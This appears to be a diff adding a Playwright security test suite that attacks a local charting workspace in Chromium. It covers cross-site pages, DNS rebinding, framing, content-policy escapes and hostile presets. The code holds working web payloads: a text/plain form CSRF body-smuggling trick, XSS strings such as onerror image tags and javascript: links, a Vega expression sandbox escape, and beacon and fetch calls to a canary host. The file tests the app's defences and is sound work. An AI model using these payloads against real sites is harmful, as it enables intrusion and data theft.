@@ -1,0 +1,333 @@
+"""Attacks in a real Chromium: pages of other sites that know the address, and runs whose texts are attacks."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from typing import NamedTuple
+from urllib.parse import quote
+
+from playwright.sync_api import Browser, BrowserContext, Page, Request
+from playwright.sync_api import Error as BrowserError
+
+from attacks import hostile_runs
+from attacks.attack import Attack, Outcome
+from attacks.canary import Canary
+from attacks.requests import EDITS
+from attacks.target import PROJECT, RUN, Target
+
+CHROMIUM = "/usr/bin/chromium"
+ARGUMENTS = ["--no-sandbox", "--host-resolver-rules=MAP *.example 127.0.0.1"]
+"""A name of another site that leads to this machine, as DNS rebinding makes it."""
+
+
+class Visit(NamedTuple):
+    """A browser, the workspace that is attacked, and the server that hears of what got through."""
+
+    browser: Browser
+    target: Target
+    canary: Canary
+
+    @property
+    def url(self) -> str:
+        return f"http://{self.target.host}"
+
+
+EVIL = """<!DOCTYPE html><title>evil</title><body><script>
+const target = TARGET, edits = EDITS;
+const loads = (tag, where, path) => new Promise((done) => {
+  const one = document.createElement(tag);
+  one.onload = () => done(tag + " " + path + " was loaded");
+  one.onerror = () => done("");
+  if (tag === "link") one.rel = "stylesheet";
+  one[where] = target + path;
+  document.body.append(one);
+});
+const reads = (path, init) => fetch(target + path, init).then(async (answer) => {
+  const text = await answer.text();
+  return text ? path + " was read: " + text.slice(0, 80) : "";
+}, () => "");
+const hears = (one) => new Promise((done) => {
+  one.onopen = one.onmessage = () => done(one.constructor.name + " opened");
+  one.onerror = () => done("");
+});
+const forms = edits.map(([, path, value]) => async () => {
+  const frame = Object.assign(document.createElement("iframe"), { name: "f" + path });
+  const form = Object.assign(document.createElement("form"), { method: "post", enctype: "text/plain" });
+  Object.assign(form, { target: frame.name, action: target + path });
+  const name = JSON.stringify(value).slice(0, -1) + ',"x":"';
+  form.append(Object.assign(document.createElement("input"), { name, value: '"}' }));
+  document.body.append(frame, form);
+  const loaded = new Promise((done) => { frame.onload = () => done(""); });
+  form.submit();
+  return loaded;
+});
+const tries = [
+  ...["/", "/api/info", "/api/projects", "/api/p/PROJECT/runs/RUN"].flatMap((path) => [
+    () => reads(path, {}), () => reads(path, { mode: "no-cors" }), () => reads(path, { credentials: "include" }),
+    () => loads("script", "src", path), () => loads("img", "src", path), () => loads("link", "href", path),
+  ]),
+  ...edits.flatMap(([method, path, value]) => [
+    () => reads(path, { method, body: JSON.stringify(value), headers: { "Content-Type": "application/json" } }),
+    () => reads(path, { method: "POST", body: JSON.stringify(value), mode: "no-cors" }),
+    async () => { navigator.sendBeacon(target + path, JSON.stringify(value)); return ""; },
+  ]),
+  ...forms,
+  () => hears(new EventSource(target + "/api/events")),
+  () => hears(new WebSocket(target.replace("http", "ws") + "/api/events")),
+];
+const run = async () => {
+  const found = [];
+  for (const attempt of tries) {
+    const late = new Promise((done) => setTimeout(done, 1000, ""));
+    try { const why = await Promise.race([attempt(), late]); if (why) found.push(why); } catch { continue; }
+  }
+  return { n: tries.length, found };
+};
+</script>"""
+
+
+def attack(group: str, name: str) -> Callable[[Callable[[Visit], Outcome]], Attack]:
+    """The attack that a function does."""
+    return lambda do: Attack(group, name, do)
+
+
+def _evil(visit: Visit, origin: str) -> Outcome:
+    """All that a page of `origin` can try at the workspace."""
+    before, n_tried, through = visit.target.state(), 0, list[str]()
+    page = EVIL.replace("PROJECT", PROJECT).replace("RUN", RUN).replace("EDITS", json.dumps(EDITS))
+    for name in ("127.0.0.1", "localhost", "rebound.example"):
+        visit.canary.page = page.replace("TARGET", json.dumps(f"http://{name}:{visit.target.port}"))
+        context = visit.browser.new_context()
+        one = context.new_page()
+        one.goto(f"{origin}:{visit.canary.port}/evil")
+        result = one.evaluate("run()")
+        n_tried += result["n"]
+        through += result["found"]
+        context.close()
+    if visit.target.state() != before:
+        through.append("a file was changed")
+    return Outcome(n_tried, "nothing read, nothing changed", tuple(through))
+
+
+@attack("in Chromium", "a page of another site asks, loads, embeds, posts and listens, by three names of this machine")
+def other_site(visit: Visit) -> Outcome:
+    return _evil(visit, "http://evil.example")
+
+
+@attack("in Chromium", "the same from another port of this machine")
+def other_port(visit: Visit) -> Outcome:
+    return _evil(visit, "http://localhost")
+
+
+@attack("in Chromium", "DNS rebinding: the workspace opened under another site's name")
+def rebound(visit: Visit) -> Outcome:
+    through: list[str] = []
+    context = visit.browser.new_context()
+    page = context.new_page()
+    for path in ("/", f"/p/{PROJECT}", "/api/projects"):
+        answer = page.goto(f"http://rebound.example:{visit.target.port}{path}")
+        if answer is None or answer.status != 403:
+            through.append(f"{path} was answered with {answer and answer.status}")
+    context.close()
+    return Outcome(3, "403", tuple(through))
+
+
+@attack("in Chromium", "another page frames the workspace, or keeps a hand on the window that it opens")
+def framed(visit: Visit) -> Outcome:
+    through: list[str] = []
+    views = ("/", f"/p/{PROJECT}", "/api/projects")
+    frames = "".join(f'<iframe src="{visit.url}{path}"></iframe>' for path in views)
+    visit.canary.page = f"<!DOCTYPE html>{frames}<button onclick=\"w = window.open('{visit.url}/')\">open</button>"
+    context = visit.browser.new_context()
+    page = context.new_page()
+    page.goto(f"http://evil.example:{visit.canary.port}/evil")
+    shown = [frame.url for frame in page.frames[1:] if not frame.url.startswith("chrome-error:")]
+    through += [f"{url} is framed" for url in shown]
+    with context.expect_page() as opened:
+        page.click("button")
+    opened.value.wait_for_load_state()
+    if not page.evaluate("w.closed"):
+        through.append("the opener holds the window")
+    if opened.value.evaluate("window.opener !== null"):
+        through.append("the window knows its opener")
+    context.close()
+    return Outcome(len(views) + 2, "blocked", tuple(through))
+
+
+@attack(
+    "in Chromium", "names, notes, tags, keys, cells, titles, classes and captions that are markup, scripts or styles"
+)
+def texts(visit: Visit) -> Outcome:
+    through: list[str] = []
+    n_seen = 0
+    for project in (hostile_runs.PROJECT, hostile_runs.OTHER):
+        place = f"/p/{quote(project, safe='')}"
+        views = [
+            "/",
+            place,
+            f"{place}/runs",
+            *(f"{place}/runs/h{run}" for run in range(3)),
+            f"{place}/insight",
+            "/presets",
+        ]
+        for view in views:
+            n_seen += 1
+            through += [f"{view}: {why}" for why in _seen(visit, view, _use)]
+    return Outcome(n_seen * len(hostile_runs.payloads("")), "shown as text", tuple(through))
+
+
+class Settling:
+    """Knows what a page still waits for; its stream of news, which never ends, aside."""
+
+    def __init__(self, page: Page) -> None:
+        self._page = page
+        self._waiting: set[Request] = set()
+        page.on("request", self._began)
+        page.on("requestfinished", self._waiting.discard)
+        page.on("requestfailed", self._waiting.discard)
+
+    def _began(self, request: Request) -> None:
+        if "/api/events" not in request.url:
+            self._waiting.add(request)
+
+    def wait(self) -> None:
+        """Wait until nothing was asked for over 300 ms, at most for ten seconds."""
+        n_quiet = 0
+        for _ in range(100):
+            self._page.wait_for_timeout(100)
+            n_quiet = 0 if self._waiting else n_quiet + 1
+            if n_quiet == 3:
+                return
+
+
+def _use(page: Page, settling: Settling) -> None:
+    """What a reader does: opens what can be opened, and hovers what has something to say."""
+    settling.wait()
+    for tab in page.get_by_role("tab").all()[:8]:
+        tab.click()
+        settling.wait()
+    for one in page.locator("main button, main [role=row], main [role=img], main canvas, main svg").all()[:25]:
+        try:
+            one.hover(timeout=200)
+        except BrowserError:  # it is covered, or gone with the list that it was in
+            continue
+
+
+def _seen(visit: Visit, view: str, use: Callable[[Page, Settling], None]) -> list[str]:
+    """What got through at one view: scripts that ran, dialogs, windows, requests to others."""
+    context: BrowserContext = visit.browser.new_context(viewport={"width": 1440, "height": 900})
+    page, through = context.new_page(), list[str]()
+    n_asked = len(visit.canary.asked)
+    page.on("dialog", lambda dialog: (through.append(f"a dialog: {dialog.message}"), dialog.dismiss()))
+    context.on("page", lambda other: through.append(f"a window: {other.url}") if other is not page else None)
+    settling = Settling(page)
+    page.goto(visit.url + view)
+    use(page, settling)
+    if page.evaluate("'pwned' in window || 'pwned' in Object.prototype"):
+        through.append("a script ran")
+    if not page.url.startswith(visit.url):
+        through.append(f"the page is at {page.url}")
+    context.close()
+    return through + [f"{path} was asked for" for path in visit.canary.asked[n_asked:]]
+
+
+@attack(
+    "in Chromium", "a logged page that reaches for the page around it, the API, other machines, windows and storage"
+)
+def logged_page(visit: Visit) -> Outcome:
+    before, through, n_tried = visit.target.state(), list[str](), 0
+    for project in (hostile_runs.PROJECT, hostile_runs.OTHER):
+        media = visit.target.folder / ".chartkit" / "runs"
+        for folder in sorted(media.iterdir()):
+            for file in sorted((folder / "h0").glob("media/*.html")):
+                if project not in (folder.name, "") and quote(project, safe=" =") != folder.name:
+                    continue
+                path = f"/html/{quote(project, safe='')}/h0/{file.name}"
+                n_tried += 2
+                through += [f"by itself: {why}" for why in _seen(visit, path, _page_ran)]
+                through += [f"framed: {why}" for why in _framed_page(visit, path)]
+    if visit.target.state() != before:
+        through.append("a file was changed")
+    n_each = hostile_runs.page("").count("() =>") + 6
+    return Outcome(n_tried * n_each, "its own script ran, in its frame alone", tuple(through))
+
+
+def _page_ran(page: Page, settling: Settling) -> None:
+    """The page's own script must have run, or what it could not do would prove nothing."""
+    settling.wait()
+    assert page.locator("#ran").text_content() == "yes"
+
+
+def _framed_page(visit: Visit, path: str) -> list[str]:
+    def use(page: Page, settling: Settling) -> None:
+        page.evaluate(
+            "path => { const frame = document.createElement('iframe'); frame.src = path;"
+            " frame.setAttribute('sandbox', 'allow-scripts'); document.body.append(frame); }",
+            path,
+        )
+        inner = page.frame_locator(f"iframe[src='{path}']")
+        inner.locator("#ran").get_by_text("yes").wait_for()
+        settling.wait()
+
+    return _seen(visit, "/", use)
+
+
+@attack("in Chromium", "inline scripts, eval, inline styles and addresses of others, put into the page itself")
+def policy(visit: Visit) -> Outcome:
+    tries = [
+        "() => document.body.append(Object.assign(document.createElement('script'), { textContent: 'top.pwned=1' }))",
+        "() => setTimeout('top.pwned=1')",
+        "() => { document.body.innerHTML += '<img src=x onerror=top.pwned=1>' }",
+        "() => { location.href = 'javascript:top.pwned=1' }",
+        "(url) => document.body.append(Object.assign(document.createElement('script'), { src: url + '/s.js' }))",
+        "(url) => document.body.append(Object.assign(document.createElement('img'), { src: url + '/i.png' }))",
+        "(url) => fetch(url + '/f').catch(() => null)",
+        "(url) => { navigator.sendBeacon(url + '/b', 'x') }",
+        "(url) => { new Worker(URL.createObjectURL(new Blob(['fetch(\"' + url + '/w\")']))) }",
+        "(url) => { document.body.append(Object.assign(document.createElement('iframe'), { src: url + '/frame' })) }",
+        "(url) => { const f = document.createElement('form'); f.action = url; document.body.append(f); f.submit() }",
+        "(url) => { document.head.append(Object.assign(document.createElement('base'), { href: url + '/' })) }",
+    ]
+
+    def use(page: Page, settling: Settling) -> None:
+        for attempt in tries:
+            try:
+                page.evaluate(attempt, visit.canary.url)
+            except BrowserError:  # the browser refuses it by an exception
+                continue
+        settling.wait()
+
+    return Outcome(len(tries), "blocked by the policy", tuple(_seen(visit, "/", use)))
+
+
+HOSTILE_PRESETS = {
+    "url": 'spec:\n  data: {url: "URL/data.json"}\n  mark: bar\n  encoding: {x: {field: a}}\n',
+    "image": 'spec:\n  data: {values: [{a: "URL/mark.png"}]}\n  mark: image\n  encoding: {url: {field: a}}\n',
+    "link": 'spec:\n  data: {values: [{a: "javascript:top.pwned=1"}]}\n  mark: point\n  encoding: {href: {field: a}}\n',
+    "expression": (
+        "spec:\n  data: {values: [{a: 1}]}\n  transform: [{calculate: "
+        "\"datum.constructor.constructor('top.pwned=1')()\", as: b}]\n  mark: point\n  encoding: {x: {field: b}}\n"
+    ),
+    "title": 'spec:\n  title: "<img src=x onerror=top.pwned=1>"\n  data: {values: [{a: 1}]}\n  mark: point\n',
+}
+
+
+@attack(
+    "in Chromium",
+    "presets with addresses, links, pictures, expressions and titles that reach out, in gallery and editor",
+)
+def presets(visit: Visit) -> Outcome:
+    through: list[str] = []
+    folder = visit.target.folder / "presets" / "evil"
+    folder.mkdir(exist_ok=True)
+    for name, text in HOSTILE_PRESETS.items():
+        (folder / f"{name}.yaml").write_text(text.replace("URL", visit.canary.url))
+    for view in ("/presets", *(f"/presets/edit/evil/{name}" for name in HOSTILE_PRESETS)):
+        through += [f"{view}: {why}" for why in _seen(visit, view, _use)]
+    for name in HOSTILE_PRESETS:
+        (folder / f"{name}.yaml").unlink()
+    return Outcome(len(HOSTILE_PRESETS) * 2, "refused or drawn as text", tuple(through))
+
+
+PAGES = (other_site, other_port, rebound, framed, texts, logged_page, policy, presets)
